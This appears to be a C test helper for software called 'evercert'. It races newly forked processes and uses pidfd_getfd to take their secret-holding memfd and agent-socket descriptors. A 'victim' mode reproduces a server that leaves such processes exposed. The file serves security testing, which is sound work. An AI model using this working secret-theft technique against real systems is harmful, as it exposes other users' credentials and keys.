/* Runs as the web server's user and takes descriptors of memory files out of every process that has just been forked, as
   whoever may run code as that user could, and the channel out of the agent. Its argument is the process of the test: what does
   not descend from that belongs to a test beside it, which may keep a careless server on purpose. Prints "ready", then
   "PID NAME" of what it got; ends at the end of its input. With the arguments victim UID GID (as root) it is what a careless
   server would be: forks processes that become that user and may be looked into while they hold such a file. */
#define _GNU_SOURCE
#include <grp.h>
#include <poll.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/prctl.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <unistd.h>

static int newest_process(void) {
  char text[128] = "";
  FILE* file = fopen("/proc/loadavg", "r");
  if (file == NULL) return 0;
  char* const read = fgets(text, sizeof text, file);
  fclose(file);
  char* const last = read == NULL ? NULL : strrchr(text, ' ');
  return last == NULL ? 0 : atoi(last);
}

/* The program that gets the secrets, in whatever state: whoever reaches into it before it protects itself has them later. */
static int is_agent(int pid) {
  char path[64];
  char words[64] = "";
  snprintf(path, sizeof path, "/proc/%d/cmdline", pid);
  FILE* file = fopen(path, "r");
  if (file == NULL) return 0;
  const size_t length = fread(words, 1, sizeof words - 1, file);
  fclose(file);
  return length > 9 && memcmp(words, "evercert", 9) == 0;
}

static int parent_of(int pid) {
  char path[64];
  char text[512];
  snprintf(path, sizeof path, "/proc/%d/stat", pid);
  FILE* file = fopen(path, "r");
  if (file == NULL) return 0;
  const size_t length = fread(text, 1, sizeof text - 1, file);
  fclose(file);
  text[length] = '\0';
  const char* const name_end = strrchr(text, ')');
  int parent = 0;
  return name_end != NULL && sscanf(name_end + 1, " %*c %d", &parent) == 1 ? parent : 0;
}

/* Looked at after the theft, which must not come later for it; of a process that has gone since nobody can tell. */
static int descends_from(int pid, int ancestor) {
  for (int steps = 0; pid > 1 && steps < 64; ++steps) {
    if (pid == ancestor) return 1;
    pid = parent_of(pid);
  }
  return 0;
}

static void search(int pid, int ancestor) {
  const int process = (int)syscall(SYS_pidfd_open, pid, 0);
  if (process < 0) return;
  for (int number = 3; number < 48; ++number) {
    const int taken = (int)syscall(SYS_pidfd_getfd, process, number, 0);
    if (taken < 0) continue;
    char link[64];
    char name[256];
    snprintf(link, sizeof link, "/proc/self/fd/%d", taken);
    const ssize_t length = readlink(link, name, sizeof name - 1);
    close(taken);
    if (length <= 0) continue;
    name[length] = '\0';
    const int is_loot = strstr(name, "memfd:evercert") != NULL || (strstr(name, "socket:") != NULL && is_agent(pid));
    if (is_loot && descends_from(pid, ancestor)) printf("%d %s\n", pid, name);
  }
  close(process);
}

static int is_over(void) {
  struct pollfd input = {STDIN_FILENO, POLLIN, 0};
  return poll(&input, 1, 0) > 0;
}

static void be_a_victim(unsigned user, unsigned group) {
  if (memfd_create("evercert-control", MFD_CLOEXEC) < 0) _exit(1);
  while (!is_over()) {
    const pid_t child = fork();
    if (child == 0) {
      if (setgroups(0, NULL) != 0 || setresgid(group, group, group) != 0 || setresuid(user, user, user) != 0) _exit(1);
      prctl(PR_SET_DUMPABLE, 1, 0, 0, 0);
      usleep(300);
      _exit(0);
    }
    waitpid(child, NULL, 0);
  }
}

int main(int count, char** words) {
  if (count == 4 && strcmp(words[1], "victim") == 0) {
    be_a_victim((unsigned)atoi(words[2]), (unsigned)atoi(words[3]));
    return 0;
  }
  if (count != 2) return 1;
  const int ancestor = atoi(words[1]);
  setvbuf(stdout, NULL, _IOLBF, 0);
  puts("ready");
  for (unsigned round = 0; round % 64 != 0 || !is_over(); ++round) {
    const int newest = newest_process();
    for (int pid = newest; pid > newest - 6 && pid > 1; --pid)
      if (pid != getpid()) search(pid, ancestor);
  }
  return 0;
}
